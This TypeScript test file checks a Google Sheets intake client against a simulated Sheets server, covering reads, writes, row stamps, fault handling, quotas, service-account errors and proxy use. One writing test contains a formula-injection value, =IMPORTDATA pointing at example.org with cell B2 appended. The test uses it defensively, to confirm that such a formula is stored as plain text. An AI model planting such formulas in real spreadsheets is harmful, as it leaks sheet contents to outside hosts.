import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { getGlobalDispatcher, setGlobalDispatcher } from "undici";
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from "vitest";
import { freePort } from "../../../dev/local-stack/child.ts";
import { startForwardProxy } from "../../../dev/local-stack/forward-proxy.ts";
import type { ServiceAccount } from "../../../dev/local-stack/sheets/service-accounts.ts";
import {
  type Fault,
  type SimulatedSheets,
  type SpreadsheetOptions,
  startSheets,
} from "../../../dev/local-stack/sheets/start-sheets.ts";
import { googleSheets } from "../../../src/intake/sheets/google-spreadsheet.ts";
import {
  SheetAccessError,
  SheetBusyError,
  SheetRejectedError,
  SheetUncertainError,
} from "../../../src/intake/sheets/spreadsheet.ts";
import { useProxy } from "../../../src/outbound/proxy.ts";
import { holdsSpreadsheetContract } from "../../contracts/spreadsheet.contract.ts";

const TAB = "Form Responses 1";
const HEADINGS = ["Approved", "Timestamp", "Name", "PIN"];

let sheets: SimulatedSheets;
let account: ServiceAccount;

beforeAll(async () => {
  sheets = await startSheets();
  account = sheets.account("acct");
});
beforeEach(() => {
  Object.assign(sheets, {
    quota: 1_000_000,
    fault: undefined,
    before: undefined,
    now: Date.now,
    rejectsUnknownStamps: false,
  });
  account.state = "active";
});
afterAll(() => sheets.stop());

const openWith = (value: string, options = {}) =>
  googleSheets({ apiUrl: sheets.url, key: { name: "GOOGLE_SERVICE_ACCOUNT_JSON", value } }, options);

/** A spreadsheet that is shared with acct, and acct's view of it. */
function open(options: SpreadsheetOptions = {}, client = {}) {
  const made = sheets.create({
    shareWith: [account],
    tabs: { [TAB]: { headings: HEADINGS, isForm: true, frozenRowCount: 1 }, Spam: {} },
    ...options,
  });
  return { made, spreadsheet: openWith(JSON.stringify(account.key()), client)(made.id) };
}

/** What went wrong, for tests that look at the error as a whole. */
const failureOf = async (call: Promise<unknown>) =>
  call.then(
    () => undefined,
    (error: unknown) => error as Error,
  );

/** What is sent between now and the end of this function. */
async function callsOf(act: () => Promise<unknown>) {
  const before = sheets.calls.length;
  await act().catch(() => undefined);
  return sheets.calls.slice(before);
}

describe.each([false, true])("a spreadsheet of Google, unknown stamps rejected: %s", (rejectsUnknown) => {
  holdsSpreadsheetContract(async ([headings = [], ...rows], { rowCount = 1000 } = {}) => {
    sheets.rejectsUnknownStamps = rejectsUnknown;
    const { made, spreadsheet } = open({
      tabs: { [TAB]: { headings, rowCount, frozenRowCount: 1, rows }, Spam: {} },
    });
    const { insertRow, deleteRow } = made.person(TAB);
    return { spreadsheet, insertRow, deleteRow };
  });
});

const appendOne = (tabId: number) => [{ kind: "append", tabId, rows: [["x"]] }] as const;

describe("reading", () => {
  it("takes one call, and lists the tabs again only after some minutes", async () => {
    let now = Date.now();
    const { made, spreadsheet } = open({}, { now: () => new Date(now) });
    await spreadsheet.read([TAB]);
    expect((await callsOf(() => spreadsheet.read([TAB, "Spam"]))).map(({ name }) => name)).toEqual([
      "spreadsheets.get",
    ]);
    made.addTab("Form Responses 2");
    expect((await spreadsheet.read([TAB])).titles).toEqual([TAB, "Spam"]);
    now += 11 * 60_000;
    expect((await spreadsheet.read([TAB])).titles).toEqual([TAB, "Spam", "Form Responses 2"]);
  });

  it("notices at once that a tab was renamed, and comes back when it has its name again", async () => {
    const { made, spreadsheet } = open();
    await spreadsheet.read([TAB]);
    const person = made.person(TAB);
    person.renameTab("Old");
    expect(await spreadsheet.read([TAB, "Spam"])).toMatchObject({
      titles: ["Old", "Spam"],
      tabs: [{ title: "Spam" }],
    });
    person.renameTab(TAB);
    expect((await spreadsheet.read([TAB])).tabs).toHaveLength(1);
  });

  it("reads a tab whose title has quotes, slashes, and question marks", async () => {
    const title = "Rob's/Q? 'A1'!B2";
    const { spreadsheet } = open({ tabs: { [title]: { headings: ["Name"] } } });
    expect((await spreadsheet.read([title])).tabs).toMatchObject([{ title, rows: [{ row: 1 }] }]);
  });

  it("reads rows that end early, blank rows in between, and rows that only have a format", async () => {
    const { made, spreadsheet } = open({ tabs: { [TAB]: { headings: HEADINGS, rows: [["", "", "Ada"]] } } });
    made.person(TAB).typeRow(5, ["Approved"]);
    made.tab(TAB).formattedRows = 900;
    const [tab] = (await spreadsheet.read([TAB])).tabs;
    expect(tab?.rows.map(({ row, cells }) => [row, cells.length])).toEqual([
      [1, 4],
      [2, 3],
      [5, 1],
    ]);
    expect(tab?.rowCount).toBe(1000);
  });

  it.each(["en_US", "en_GB", "de_DE"])("reads the same moment from a sheet in %s", async (locale) => {
    const { made, spreadsheet } = open({ locale, timeZone: "Europe/Berlin" });
    made.submit(TAB, { Name: "Ada", PIN: "0123" }, "2026-04-03T10:00:00");
    const person = made.person(TAB);
    person.put(3, "PIN", { value: 123, format: { type: "NUMBER", pattern: "0000" } });
    person.put(4, "PIN", { value: "0123" });
    const contents = await spreadsheet.read([TAB]);
    expect(contents).toMatchObject({ timeZone: "Europe/Berlin", locale });
    const rows = contents.tabs[0]?.rows ?? [];
    expect(rows[1]?.cells[1]).toEqual({
      shown: expect.stringMatching(/0?[34][./]0?[34][./]2026/),
      value: 46115 + 10 / 24,
    });
    expect(rows.slice(1).map(({ cells }) => cells[3])).toEqual([
      { shown: "123", value: 123 },
      { shown: "0123", value: 123 },
      { shown: "0123", value: "0123" },
    ]);
  });

  it("names the protected ranges that acct may not edit", async () => {
    const { made, spreadsheet } = open();
    const person = made.person(TAB);
    person.protect({ startRow: 0, endRow: 1, editors: ["boss@example.org"] });
    person.protect({ startColumn: 0, endColumn: 1, editors: [account.email] });
    expect((await spreadsheet.read([TAB])).tabs[0]?.lockedRanges).toEqual(["A1:Z1"]);
    const tabId = made.tab(TAB).id;
    await spreadsheet.change([{ kind: "write", tabId, row: 2, cells: { 0: "Approved" } }]);
    const write = { kind: "write", tabId, row: 1, cells: { 0: "Yes" } } as const;
    expect(await failureOf(spreadsheet.change([write]))).toMatchObject({
      name: "SheetAccessError",
      isFinal: true,
      message: expect.stringContaining(account.email),
    });
  });
});

describe("writing", () => {
  it("sends no formula, nothing as if typed, and no PUT", async () => {
    const { made, spreadsheet } = open();
    const { id: tabId } = made.tab(TAB);
    const text = '=IMPORTDATA("https://example.org/?"&B2)';
    const phone = "+49 30 1234567";
    const calls = await callsOf(async () => {
      await spreadsheet.change([
        { kind: "append", tabId, rows: [[text, null, phone, "'quoted"]] },
        { kind: "stamp", tabId, row: 2, stamp: "s" },
        { kind: "write", tabId, row: 2, cells: { 1: text } },
      ]);
      await spreadsheet.writeByStamp([{ tabId, stamp: "s", cells: { 4: text, 5: phone } }]);
    });
    expect(made.rows(TAB)[1]).toEqual([text, text, phone, "'quoted", text, phone]);
    expect(new Set(calls.map(({ method }) => method))).toEqual(new Set(["POST"]));
    expect(calls.some(({ name }) => name === "values.append" || name === "values.update")).toBe(false);
  });

  it("is told when the metadata of a tab is full, and can still write to the stamps that are there", async () => {
    const { made, spreadsheet } = open({
      tabs: { [TAB]: { headings: HEADINGS, rows: [["a"], ["b"]] }, Spam: {} },
    });
    const { id: tabId } = made.tab(TAB);
    const [stamp, last] = ["x".repeat(29_000), "y".repeat(1000 - 2 * "acct".length)];
    await spreadsheet.change([{ kind: "stamp", tabId, row: 2, stamp }]);
    await expect(
      spreadsheet.change([
        { kind: "write", tabId, row: 3, cells: { 0: "c" } },
        { kind: "stamp", tabId, row: 3, stamp: `${last}z` },
      ]),
    ).rejects.toThrow(SheetRejectedError);
    expect(made.rows(TAB)[2]).toEqual(["b"]);
    await spreadsheet.change([{ kind: "stamp", tabId, row: 3, stamp: last }]);
    await spreadsheet.writeByStamp([{ tabId, stamp, cells: { 1: "still here" } }]);
    expect((await spreadsheet.read([TAB])).tabs[0]?.metadataLength).toBe(30_000);
    expect(made.rows(TAB)[1]).toEqual(["a", "still here"]);
    await spreadsheet.change([{ kind: "stamp", tabId: made.tab("Spam").id, row: 1, stamp }]);
  });

  it("never writes to the same stamp in another tab", async () => {
    const { made, spreadsheet } = open();
    const [one, other] = [made.tab(TAB).id, made.tab("Spam").id];
    await spreadsheet.change([
      { kind: "stamp", tabId: one, row: 2, stamp: "s" },
      { kind: "stamp", tabId: other, row: 3, stamp: "s" },
    ]);
    await spreadsheet.writeByStamp([{ tabId: one, stamp: "s", cells: { 0: "Approved" } }]);
    await spreadsheet.change([{ kind: "remove-stamp", tabId: one, stamp: "s" }]);
    expect(made.rows("Spam")).toEqual([]);
    expect(made.tab("Spam").rows[2]?.metadata).toHaveLength(1);
    expect(made.rows(TAB)[1]).toEqual(["Approved"]);
  });
});

describe("when Google or the network fails", () => {
  it.each<[string, Fault, object, object]>([
    ["503 before anything was done", "unavailable", SheetBusyError, SheetUncertainError],
    ["503 after it was done", "unavailable-after", SheetBusyError, SheetUncertainError],
    ["a reset before anything was done", "reset", SheetBusyError, SheetUncertainError],
    ["a reset after it was done", "reset-after", SheetBusyError, SheetUncertainError],
    ["a call that never returns", "silent", SheetBusyError, SheetUncertainError],
    ["a call that was carried out and never returns", "silent-after", SheetBusyError, SheetUncertainError],
    ["a used-up quota", "busy", SheetBusyError, SheetBusyError],
    ["a disabled API", "disabled-api", SheetAccessError, SheetAccessError],
    ["a page of the proxy", { status: 403, body: "<h1>Blocked</h1>" }, SheetAccessError, SheetAccessError],
    [
      "a login page of a portal",
      { status: 200, body: "<h1>Sign in</h1>" },
      SheetAccessError,
      SheetUncertainError,
    ],
    [
      "a redirect",
      { status: 302, body: "", headers: { location: "/login" } },
      SheetAccessError,
      SheetAccessError,
    ],
  ])(
    "after %s, it says whether anything can have been done, and sends the call once",
    async (_, fault, onRead, onWrite) => {
      const isSilent = typeof fault === "string" && fault.startsWith("silent");
      const { made, spreadsheet } = open({}, isSilent ? { deadlineMs: 300 } : {});
      const { id: tabId } = made.tab(TAB);
      sheets.fault = () => fault;
      const before = sheets.calls.length;
      expect(await failureOf(spreadsheet.read([TAB]))).toBeInstanceOf(onRead);
      expect(await failureOf(spreadsheet.change(appendOne(tabId)))).toBeInstanceOf(onWrite);
      const byStamp = spreadsheet.writeByStamp([{ tabId, stamp: "s", cells: { 0: "x" } }]);
      expect(await failureOf(byStamp)).toBeInstanceOf(onWrite);
      // The server may hear of a call only after the client has given up.
      await expect.poll(() => sheets.calls.length - before).toBe(3);
      const isDone = typeof fault === "string" && fault.endsWith("-after");
      await expect.poll(() => made.rows(TAB).length).toBe(isDone ? 2 : 1);
    },
  );

  it("is busy, not uncertain, if a change can't even be sent", async () => {
    const { made } = open();
    const nowhere = googleSheets({
      apiUrl: `http://127.0.0.1:${await freePort()}/`,
      key: { name: "GOOGLE_SERVICE_ACCOUNT_JSON", value: JSON.stringify(account.key()) },
    });
    expect(await failureOf(nowhere(made.id).change(appendOne(1)))).toBeInstanceOf(SheetBusyError);
  });

  it("accepts 60 reads and 60 writes per minute and account, and more a minute later", async () => {
    let now = Date.now();
    sheets.now = () => now;
    const { made, spreadsheet } = open();
    await spreadsheet.read([TAB]);
    sheets.quota = 60;
    now += 60_000;
    for (let reads = 0; reads < 60; reads++) await spreadsheet.read([TAB]);
    await expect(spreadsheet.read([TAB])).rejects.toThrow(SheetBusyError);
    await spreadsheet.change(appendOne(made.tab(TAB).id));
    now += 60_000;
    await spreadsheet.read([TAB]);
  });
});

describe("access", () => {
  it("names the address to share with, and then works", async () => {
    const { made, spreadsheet } = open({ shareWith: [] });
    expect(await failureOf(spreadsheet.read([TAB]))).toMatchObject({
      name: "SheetAccessError",
      isFinal: true,
      message: expect.stringContaining(account.email),
    });
    made.share(account, "reader");
    await spreadsheet.read([TAB]);
    expect(await failureOf(spreadsheet.tryWriting())).toMatchObject({
      isFinal: true,
      message: expect.stringMatching(new RegExp(`${account.email}.*Editor`)),
    });
    made.share(account);
    await spreadsheet.tryWriting();
  });

  it("names the ID that Google doesn't know, and an Excel file", async () => {
    const excel = open({ isExcel: true }).spreadsheet;
    expect(await failureOf(excel.read([TAB]))).toMatchObject({
      isFinal: true,
      message: expect.stringContaining("Save as Google Sheets"),
    });
    const unknown = openWith(JSON.stringify(account.key()))("1NoSuchSpreadsheetAnywhere");
    expect(await failureOf(unknown.read([TAB]))).toMatchObject({
      isFinal: true,
      message: expect.stringContaining("1NoSuchSpreadsheetAnywhere"),
    });
  });

  it.each<[string, (of: ServiceAccount) => void, boolean, RegExp]>([
    ["is disabled", (of) => (of.state = "disabled"), true, /disabled .*enable/],
    ["is deleted", (of) => (of.state = "deleted"), true, /knows no .*GOOGLE_SERVICE_ACCOUNT_JSON/],
    ["has another key by now", (of) => of.rotate(), true, /new key .*GOOGLE_SERVICE_ACCOUNT_JSON/],
    [
      "is used by a slow clock",
      () => (sheets.now = () => Date.now() + 7_200_000),
      false,
      /120 minutes behind/,
    ],
    ["is used by a fast clock", () => (sheets.now = () => Date.now() - 900_000), false, /15 minutes ahead/],
  ])("says what to do if the service account %s", async (_, happen, isFinal, sentence) => {
    const own = sheets.account(`a${sheets.calls.length}`);
    const { made } = open({ shareWith: [own] });
    const spreadsheet = openWith(JSON.stringify(own.key()))(made.id);
    happen(own);
    const failure = await failureOf(spreadsheet.read([TAB]));
    expect(failure).toMatchObject({
      name: "SheetAccessError",
      isFinal,
      message: expect.stringMatching(sentence),
    });
    expect(failure?.message).not.toMatch(/invalid_grant|BEGIN/);
  });

  it("recovers without a restart when the clock is right again, or a new key file is there", async () => {
    const own = sheets.account("renewed");
    const { made } = open({ shareWith: [own] });
    const folder = join(inject("folder"), "renewed-key");
    await mkdir(folder, { recursive: true });
    const file = join(folder, "key.json");
    await writeFile(file, JSON.stringify(own.key()));
    const spreadsheet = openWith(file)(made.id);
    sheets.now = () => Date.now() + 7_200_000;
    expect(await failureOf(spreadsheet.read([TAB]))).toBeInstanceOf(SheetAccessError);
    sheets.now = Date.now;
    await spreadsheet.read([TAB]);
    await writeFile(file, JSON.stringify(own.rotate()));
    await spreadsheet.read([TAB]);
  });

  it("measures the clock also where only the API can be reached, and asks again if Google's sign-in is down", async () => {
    const { spreadsheet } = open();
    sheets.rejectsToken = () => true;
    sheets.fault = ({ kind }) => (kind === "token" ? "unavailable" : undefined);
    expect(await failureOf(spreadsheet.read([TAB]))).toMatchObject({
      isFinal: false,
      message: expect.stringContaining("can't be asked why"),
    });
    sheets.now = () => Date.now() + 3_600_000;
    expect((await failureOf(spreadsheet.read([TAB])))?.message).toContain("60 minutes behind");
    sheets.rejectsToken = undefined;
  });

  it("waits for the file of the key to come back", async () => {
    const { made } = open();
    const file = join(inject("folder"), "moved-google-key.json");
    const spreadsheet = openWith(file)(made.id);
    expect(await failureOf(spreadsheet.read([TAB]))).toMatchObject({
      name: "SheetAccessError",
      isFinal: false,
    });
    await writeFile(file, JSON.stringify(account.key()));
    await spreadsheet.read([TAB]);
  });

  it("calls a gateway below its path", async () => {
    const key = { name: "GOOGLE_SERVICE_ACCOUNT_JSON", value: JSON.stringify(account.key()) };
    const gateway = googleSheets({ apiUrl: `${sheets.url}google/sheets/`, key });
    const [call] = await callsOf(() => gateway("1AbC").read([TAB]));
    expect(call?.path).toBe("/google/sheets/v4/spreadsheets/1AbC");
  });

  it("uses a token of Google where a self-signed one isn't accepted, and gets a new one when that is rejected", async () => {
    const { made, spreadsheet } = open();
    let rejected = /^Bearer ey/;
    sheets.rejectsToken = (authorization) => rejected.test(authorization);
    await spreadsheet.read([TAB]);
    const calls = await callsOf(() => spreadsheet.read([TAB]));
    expect(calls.map(({ name }) => name)).toEqual(["spreadsheets.get"]);
    rejected = /^Bearer (?!ya29\.2)/;
    await spreadsheet.change(appendOne(made.tab(TAB).id));
    sheets.rejectsToken = undefined;
    expect(made.rows(TAB)).toHaveLength(2);
  });

  it("reaches Google through the site's proxy", async () => {
    const { made } = open();
    const proxy = await startForwardProxy({ "sheets.example.org": Number(new URL(sheets.url).port) });
    const direct = getGlobalDispatcher();
    try {
      useProxy({ http: proxy.url, https: undefined, except: "" });
      const apiUrl = "http://sheets.example.org/";
      const key = { name: "GOOGLE_SERVICE_ACCOUNT_JSON", value: JSON.stringify(account.key()) };
      expect((await googleSheets({ apiUrl, key })(made.id).read([TAB])).tabs).toHaveLength(1);
      expect(proxy.asked.join()).toContain("sheets.example.org");
    } finally {
      setGlobalDispatcher(direct);
      await proxy.stop();
    }
  });
});
